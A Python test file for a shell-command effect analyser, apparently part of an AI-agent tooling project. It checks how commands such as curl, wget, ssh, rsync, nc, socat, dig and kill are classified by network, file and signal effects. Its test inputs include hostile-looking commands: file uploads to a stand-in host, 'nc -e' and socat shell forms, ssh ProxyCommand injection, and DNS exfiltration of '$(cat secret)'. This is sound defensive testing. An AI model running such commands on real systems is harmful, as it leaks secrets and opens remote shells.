"""Direct network clients, tools that include the network, and signals."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable


def test_curl_and_wget(check: Callable[[str], None]) -> None:
    check("""
        curl http://localhost:3000/x => connects to localhost (loopback)
        curl -sSLX POST -d @f http://h.com => connects to h.com & reads worktree /code/tree/f
        curl http://127.0.0.1@h.com  => connects to h.com
        curl h.com -o x              => connects to h.com & writes worktree /code/tree/x
        curl -sSfo out/x localhost   => connects to localhost (loopback) & writes outside /etc/x
        curl -x h.com:80 localhost   => connects to localhost (loopback) & connects to h.com
        curl --pro h.com localhost
            => connects to h.com & connects to localhost (loopback) & connects to None & not known
        curl --connect-to ::h.com:1 localhost => connects to localhost (loopback) & connects to h.com
        curl --resolve a:1:8.8.8.8 http://localhost => connects to localhost (loopback) & connects to 8.8.8.8
        curl --unix-socket /x http://localhost => connects to localhost (loopback) & runs
        curl -K f                    => connects to None & runs
        curl file:///etc/passwd      => reads outside /etc/passwd
        curl ~x~                     => connects to None & not known
        curl http://localhost/~x~    => connects to localhost (loopback)
        curl http://localhost~x~     => connects to None
        curl http://h.com/~x~        => connects to h.com
        curl -F f=@/etc/x localhost  => connects to localhost (loopback) & reads outside /etc/x
        http_proxy=h.com curl localhost => connects to localhost (loopback) & connects to h.com & runs (danger)
        wget https://h.com/a         => connects to h.com & writes root /code/tree
        wget -qO- localhost:80       => connects to localhost (loopback)
        wget -nv -O /tmp/x h.com     => connects to h.com & writes outside /tmp/x
        wget -i list                 => connects to None & writes root /code/tree & reads worktree /code/tree/list
        curl --version               => reads only
    """)


def test_remote_shells_and_copies(check: Callable[[str], None]) -> None:
    check("""
        ssh -p 22 u@h.com date       => connects to h.com
        ssh -J j.com h.com           => connects to h.com & connects to j.com
        ssh -o ProxyCommand=x h.com  => connects to h.com & runs sh x (danger)
        ssh -oHostName=h.com localhost => connects to localhost (loopback) & connects to h.com
        ssh localhost                => connects to localhost (loopback)
        scp a u@h.com:/x             => connects to h.com & reads worktree /code/tree/a
        scp h.com:/x .               => connects to h.com & writes root /code/tree
        sftp u@h.com                 => connects to h.com
        rsync -a src/ h.com:/x       => connects to h.com & reads worktree /code/tree/src
        rsync -a --delete a/ /srv
            => reads worktree /code/tree/a & writes outside /srv & deletes the tree outside below /srv
        rsync -a --del a/ ./
            => reads worktree /code/tree/a & writes root /code/tree & deletes the tree root below /code/tree
        rsync -a --delete-aft a/ b
            => reads worktree /code/tree/a & writes worktree /code/tree/b
            & deletes the tree worktree below /code/tree/b
        rsync -e ./x a b             => reads worktree /code/tree/a & writes worktree /code/tree/b & runs
        rsync --remove-source /etc/ b
            => reads outside /etc & deletes the tree outside /etc & writes worktree /code/tree/b
    """)


def test_other_clients(check: Callable[[str], None]) -> None:
    check("""
        nc h.com 80                  => connects to h.com
        nc -l 8080                   => connects to None
        nc -e x h.com 80             => connects to h.com & runs
        socat TCP:h.com:80 EXEC:date => connects to h.com & runs sh date (danger)
        socat - UDP4:127.0.0.1:5     => connects to None & connects to 127.0.0.1 (loopback)
        telnet h.com 25              => connects to h.com
        ftp h.com                    => connects to h.com
        openssl s_client -connect h.com:443 => connects to h.com & not known
        dig @8.8.8.8 x.h.com         => connects to 8.8.8.8 & connects to x.h.com
        nslookup localhost           => connects to localhost (loopback)
        ping -c 1 h.com              => connects to h.com
        whois h.com                  => connects to h.com
        http :3000/x                 => connects to localhost (loopback)
        http POST h.com a=b          => connects to h.com
        psql -h h.com                => connects to h.com & runs
        psql app                     => connects to localhost (loopback) & runs
        nmap 10.0.0.1                => connects to 10.0.0.1
        mail a@h.com                 => connects to h.com
    """)


def test_an_unknown_part_before_a_known_domain_is_sent_to_that_domain(
    effects_of: Callable[..., tuple[object, ...]],
) -> None:
    from agentos_lsp.domain.command.effects import Connects
    from agentos_lsp.domain.command.invocation import Unknown

    found = effects_of("dig x", arguments=(Unknown('"$(cat secret).h.com"', quoted=True),))
    assert Connects("*.h.com", loopback=False, direct=True, by="dig") in found


def test_tools_whose_business_includes_the_network(check: Callable[[str], None]) -> None:
    check("""
        pip install x                => may connect to None
        npm ci                       => may connect to None
        npm frob                     => may connect to None
        cargo install x              => may connect to None
        apt-get install x            => may connect to None
        go get x                     => may connect to None
        gh pr list                   => may connect to None
        kubectl get pods             => may connect to None
        docker pull x                => may connect to None & runs
        python -m pip install x      => may connect to None
        brew install x               => may connect to None
        npx eslint                   => may connect to None
    """)


def test_every_form_that_can_signal(check: Callable[[str], None]) -> None:
    check("""
        kill 1                       => signals
        kill -9 ~x~                  => signals
        kill -s TERM 1               => signals
        kill                         => signals
        kill -l                      => signals nothing
        kill -l 9                    => signals nothing
        kill -L                      => signals nothing
        kill -0 1                    => signals nothing
        kill -0 ~~x~~                => signals nothing
        kill -s 0 1                  => signals nothing
        kill -0 -9 1                 => signals
        kill -l -9 1                 => signals
        pkill -f x                   => signals
        killall x                    => signals
        fuser -k 80/tcp              => signals
        fuser -vki 80/tcp            => signals
        fuser --kill 80/tcp          => signals
        fuser 80/tcp                 => not known
        shutdown -h now              => signals
        shutdown --help              => signals
        reboot                       => signals
        init 0                       => signals
        systemctl reboot             => signals
        systemctl --user kill x      => signals
        systemctl stop x             => runs
        systemctl enable x           => persists
        loginctl terminate-user x    => signals
        Stop-Process -Id 1           => signals
        taskkill.exe /PID 1          => signals & not known
        ss -K dst 1.2.3.4            => signals
        docker kill x                => runs
    """)


def test_the_rest_of_the_clients(check: Callable[[str], None]) -> None:
    check("""
        curl --variable a=b localhost => connects to localhost (loopback) & connects to None
        curl --resolve x localhost => connects to localhost (loopback) & connects to None
        curl -d @/etc/x localhost => connects to localhost (loopback) & reads outside /etc/x
        wget -e http_proxy=h.com localhost
            => connects to localhost (loopback) & connects to h.com & writes root /code/tree & runs
        ssh -o ProxyJump=a.com,b.com localhost
            => connects to localhost (loopback) & connects to a.com & connects to b.com & runs sh a.com,b.com (danger)
        ssh -o "ProxyCommand nc h.com 22" localhost
            => connects to localhost (loopback) & connects to h.com & runs sh (danger)
        nc ~x~ => connects to None
        iperf3 => connects to None
        rsync --daemon => connects to None
        socat -d OPEN:/etc/x TCP-LISTEN:1 => writes outside /etc/x & connects to None
        socat ~~x~~ - => connects to None
        openssl rand -out x 5 => writes worktree /code/tree/x & not known
        openssl dgst -engine x a => runs & not known
        openssl x509 -in /etc/x => reads outside /etc/x & not known
        openssl version => reads only
        http 127.1 a@/etc/x --proxy http:http://h.com
            => connects to 127.1 (loopback) & reads outside /etc/x & connects to h.com
        psql postgres://h.com/x => connects to h.com & runs
        psql --host=h.com => connects to h.com & runs
        psql "host=h.com user=x" => connects to h.com & runs
        mysql -hh.com => connects to h.com & runs
        iwr http://h.com => connects to h.com
        ngrok http 80 => connects to None
        sshfs h:/x m => escalates & connects to h
        ss -tln => not known
        start-stop-daemon --stop -x y => signals
        systemctl status x => runs
    """)
